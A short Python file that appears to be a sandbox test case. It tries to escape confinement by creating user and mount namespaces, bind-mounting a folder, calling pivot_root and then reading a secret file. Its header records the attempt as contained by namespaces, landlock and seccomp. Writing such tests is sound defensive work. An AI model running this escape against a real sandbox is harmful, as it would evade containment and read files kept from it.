# attack: mounts a folder in a namespace of its own and makes that its root by pivot_root
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MS_REC = 0x10000000, 0x00020000, 4096, 16384


def attack():
    syscall({"x86_64": 272, "aarch64": 97}, CLONE_NEWUSER)
    syscall({"x86_64": 272, "aarch64": 97}, CLONE_NEWNS)
    folder = FOLDER.encode()
    syscall({"x86_64": 165, "aarch64": 40}, folder, folder, None, MS_BIND | MS_REC, None)
    os.chdir(FOLDER)
    syscall({"x86_64": 155, "aarch64": 41}, b".", b".")
    with open("/" + os.path.basename(SECRET)) as file:
        return f"through: {file.read()} in the root"
